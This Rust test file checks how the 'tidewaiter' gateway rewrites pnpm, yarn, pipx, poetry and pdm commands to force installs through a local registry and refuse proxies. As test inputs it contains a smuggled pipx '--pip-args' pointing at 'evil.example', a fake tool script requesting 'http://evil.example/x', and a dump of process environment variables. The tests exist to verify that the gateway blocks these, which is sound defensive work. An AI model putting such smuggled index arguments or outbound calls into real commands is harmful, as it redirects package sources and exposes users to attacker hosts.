//! What each adapter makes of a command, its variables and its files, without the tool: a program of that name writes
//! down how it was started.

use std::collections::BTreeMap;
use std::path::Path;

use serde_json::json;
use tidewaiter::enforce::Uncontained;

use crate::gateway_npm::{self, Rig, lines};
use crate::support::rig::{Rig as PythonRig, wheel};

const OLD: &str = "2020-01-01T00:00:00Z";

/// Writes a program that writes its words to `argv` and its variables to `env` in the home directory.
fn program(directory: &Path, name: &str, first: &str) {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::create_dir_all(directory).unwrap();
    let path = directory.join(name);
    std::fs::write(&path, format!("{first}\n")).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

const SHELL: &str =
    "#!/bin/sh\nprintf '%s\\n' \"$@\" > \"$HOME/argv\"\ntr '\\0' '\\n' < /proc/$$/environ > \"$HOME/env\"\n";

/// An npm rig with a tool of this name and version.
fn javascript(name: &str, version: &str) -> Option<Rig> {
    let mut rig = gateway_npm::with_packages()?;
    rig.server.npm("@acme/c", "1.0.0", OLD, json!({}));
    let tool = rig.work().join("../tool");
    program(&tool.join("bin"), name, SHELL);
    let manifest = json!({"name": name, "version": version});
    std::fs::write(tool.join("package.json"), manifest.to_string()).unwrap();
    let path = std::env::var("PATH").unwrap_or_default();
    let own = tool.join("bin").canonicalize().unwrap();
    rig.set("PATH", &format!("{}:{path}", own.display()));
    Some(rig)
}

/// How the program was started.
fn started(home: &Path) -> (Vec<String>, BTreeMap<String, String>) {
    let read = |name: &str| std::fs::read_to_string(home.join(name)).unwrap();
    let argv = read("argv").lines().map(str::to_owned).collect();
    let env =
        read("env").lines().filter_map(|l| l.split_once('=')).map(|(k, v)| (k.to_owned(), v.to_owned())).collect();
    (argv, env)
}

/// Without what is another in each run.
fn plain(word: &str, own: &str) -> String {
    let mut out = word.to_owned();
    if let Some(at) = out.find("http://127.0.0.1:")
        && let Some(rest) = out.get(at + 17..)
    {
        let base = rest.find("/npm/").or_else(|| rest.find("/pypi/"));
        out = match base {
            Some(end) => format!("{}GATE{}", &out[..at], &rest[end..]),
            None => format!("{}REFUSES", &out[..at]),
        };
    }
    let carried = own.replacen("://", "/", 1).replace(':', "~");
    let out = out.replace(&carried, "OWN/");
    match out.find("/tmp/tidewaiter-").or_else(|| out.find("/tidewaiter-")) {
        Some(at) => format!("{}TEMP", &out[..at]),
        None => out,
    }
}

#[test]
fn pnpm_gets_words_in_front_of_its_own() {
    let Some(mut rig) = javascript("pnpm", "10.34.0") else { return };
    let own = rig.server.npm_url();
    rig.write("../home/.npmrc", &format!("registry={own}\n@acme:registry={own}\n"));
    rig.set("npm_config_registry", &own);
    rig.set("PNPM_CONFIG_CACHE_DIR", "/evil");
    let registry = format!("--registry={own}");
    let outcome = rig.run(&["pnpm", &registry, "add", "tw-a", "@acme/c", "--store-dir", "s"], gateway_npm::nothing);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]));
    let (argv, env) = started(&rig.work().join("../home"));
    let words: Vec<String> = argv.iter().map(|w| plain(w, &own)).collect();
    let store = format!("--config.store-dir={}/s", rig.work().display());
    let expected = [
        "--config.registry=GATE/npm/~/OWN/",
        "--config.@acme:registry=GATE/npm/~/OWN/",
        &store,
        "--config.cache-dir=TEMP",
        "--config.ignore-scripts=true",
        "--config.verify-store-integrity=true",
        "--config.side-effects-cache=false",
        "--config.update-notifier=false",
        "--config.fetch-retries=0",
        "--config.noproxy=127.0.0.1",
        "--config.proxy=REFUSES",
        "--config.http-proxy=REFUSES",
        "--config.https-proxy=REFUSES",
        "add",
        "tw-a",
        "@acme/c",
    ];
    assert_eq!(words, expected);
    assert!(!env.contains_key("npm_config_registry") && !env.contains_key("PNPM_CONFIG_CACHE_DIR"), "{env:?}");
    assert!(env["https_proxy"].starts_with("http://127.0.0.1:") && env["no_proxy"] == "127.0.0.1");
}

#[test]
fn pnpm_10_is_not_run_where_its_workspace_names_registries() {
    let Some(rig) = javascript("pnpm", "10.34.0") else { return };
    let own = rig.server.npm_url();
    rig.write("pnpm-workspace.yaml", &format!("packages: []\nregistries:\n  \"@acme\": {own}\n"));
    let refused = rig.tried_in(&["pnpm", "add", "@acme/c"], &Uncontained, gateway_npm::nothing).unwrap_err();
    assert!(refused.to_string().contains("pnpm-workspace.yaml has `registries`"), "{refused}");
}

#[test]
fn yarn_1_gets_words_behind_its_own_and_yarn_4_variables() {
    let Some(rig) = javascript("yarn", "1.22.22") else { return };
    let own = rig.server.npm_url();
    rig.write("../home/.npmrc", &format!("registry={own}\n@acme:registry={own}\nsave-exact=true\n"));
    rig.write(
        "yarn.lock",
        &format!(
            "# yarn lockfile v1\n\n\ntw-b@^1.0.0:\n  version \"1.0.0\"\n  resolved \"{own}tw-b/-/tw-b-1.0.0.tgz#00\"\n"
        ),
    );
    let before = rig.read("yarn.lock");
    let outcome = rig.run(&["yarn", "add", "tw-a", "@acme/c", "--offline", "--registry", &own], gateway_npm::nothing);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]));
    let (argv, env) = started(&rig.work().join("../home"));
    let words: Vec<String> = argv.iter().map(|w| plain(w, &own)).collect();
    let expected = [
        "--no-default-rc",
        "add",
        "tw-a",
        "@acme/c",
        "--registry",
        "GATE/npm/~/OWN/",
        "--cache-folder",
        "TEMP",
        "--proxy",
        "REFUSES",
        "--https-proxy",
        "REFUSES",
    ];
    assert_eq!(words, expected);
    assert_eq!(plain(&env["npm_config_@acme:registry"], &own), "GATE/npm/~/OWN/");
    assert_eq!(env["npm_config_save_exact"], "true");
    assert_eq!(rig.read("yarn.lock"), before, "it named the gateway, and does no more");

    let Some(rig) = javascript("yarn", "4.1.0") else { return };
    let own = rig.server.npm_url();
    rig.write("yarn.lock", "");
    let outcome = rig.run(&["yarn", "add", "tw-a"], gateway_npm::nothing);
    assert_eq!((outcome.ended.status(), lines(&outcome)), (0, vec![]));
    let (argv, env) = started(&rig.work().join("../home"));
    assert_eq!(argv, ["add", "tw-a"]);
    assert_eq!(plain(&env["YARN_NPM_REGISTRY_SERVER"], own.trim_end_matches('/')), "GATE/npm/~/OWN/");
    assert_eq!((env["YARN_UNSAFE_HTTP_WHITELIST"].as_str(), env["YARN_ENABLE_SCRIPTS"].as_str()), ("127.0.0.1", "0"));
    assert!(env["YARN_PLUGINS"].ends_with("/tidewaiter.cjs"), "{env:?}");
}

#[test]
fn pipx_gets_one_index_for_pip_and_for_uv() {
    let mut rig = PythonRig::new();
    rig.server.python(wheel("tw-a", "1.0", &[]));
    let bin = rig.work().join("../bin");
    program(&bin, "pipx", SHELL);
    let path = std::env::var("PATH").unwrap_or_default();
    rig.set("PATH", &format!("{}:{path}", bin.canonicalize().unwrap().display()));
    let own = rig.server.simple();
    let done = rig.run(&["pipx", "install", "tw-a", "--index-url", &own], |_| {});
    assert_eq!(done.status(), 0, "{:?}", done.outcome);
    let (argv, env) = started(&rig.home());
    let words: Vec<String> = argv.iter().map(|w| plain(w, &own)).collect();
    assert_eq!(words, ["install", "tw-a", "--index-url", "GATE/pypi/index/~/OWN/"]);
    assert_eq!(plain(&env["PIP_INDEX_URL"], &own), "GATE/pypi/simple/");
    assert_eq!(plain(&env["UV_DEFAULT_INDEX"], &own), "GATE/pypi/simple/");
    assert_eq!((env["PIP_CONFIG_FILE"].as_str(), env["UV_NO_CONFIG"].as_str()), ("/dev/null", "1"));
    let inner = rig.run(&["pipx", "install", "tw-a", "--pip-args=--index-url https://evil.example/simple"], |_| {});
    let refused = inner.outcome.unwrap_err().to_string();
    assert!(refused.contains("stands in `--pip-args`"), "{refused}");
}

#[test]
fn poetry_and_pdm_run_in_their_own_interpreter_with_another_way_out() {
    // The script asks as poetry would, with the client that it has.
    let script = "import json, sys\n\
                  import requests\n\
                  page = requests.get(sys.argv[1] + 'tw-a/', headers={'Accept': 'application/vnd.pypi.simple.v1+json'})\n\
                  files = [requests.get(f['url']).status_code for f in page.json()['files']]\n\
                  other = requests.get('http://evil.example/x')\n\
                  print(json.dumps([page.url, [f['url'] for f in page.json()['files']], files, other.status_code, other.url]))\n\
                  open(__file__ + '.said', 'w').write(json.dumps([sys.argv[0] == __file__, page.url, files, other.status_code]))\n";
    let Some(python) = crate::support::rig::python() else { return };
    let has =
        std::process::Command::new(python).args(["-c", "import requests"]).output().is_ok_and(|o| o.status.success());
    for tool in ["poetry", "pdm"] {
        let mut rig = PythonRig::new();
        rig.server.python(wheel("tw-a", "1.0", &[]));
        let own = rig.server.simple();
        let section = format!("[[tool.{tool}.source]]\nname = \"own\"\nurl = \"{own}\"\n");
        let pdm =
            if tool == "pdm" { format!("[[tool.pdm.source]]\nname = \"pypi\"\nurl = \"{own}\"\n") } else { section };
        rig.write(
            "pyproject.toml",
            &format!("[project]\nname = \"app\"\nversion = \"1\"\nrequires-python = \">=3.8\"\n{pdm}"),
        );
        let bin = rig.work().join("../bin");
        let text =
            if has { script.to_owned() } else { "import sys\nopen(__file__ + '.said', 'w').write('[]')\n".to_owned() };
        program(&bin, tool, &format!("#!{python}\nimport sys; sys.argv[1:] = ['{own}']\n{text}"));
        let path = std::env::var("PATH").unwrap_or_default();
        let bin = bin.canonicalize().unwrap();
        rig.set("PATH", &format!("{}:{path}", bin.display()));
        let done = rig.run(&[tool, "add", "tw-a"], |_| {});
        assert_eq!(done.status(), 0, "{tool}: {:?}", done.outcome);
        let said = std::fs::read_to_string(bin.join(format!("{tool}.said"))).unwrap();
        if has {
            assert_eq!(said, json!([true, format!("{own}tw-a/"), [200], 403]).to_string().replace(',', ", "), "{tool}");
            assert!(
                done.refused().iter().any(|l| l.contains("is not in the cleared plan")),
                "{tool}: {:?}",
                done.refused()
            );
        }
    }
}
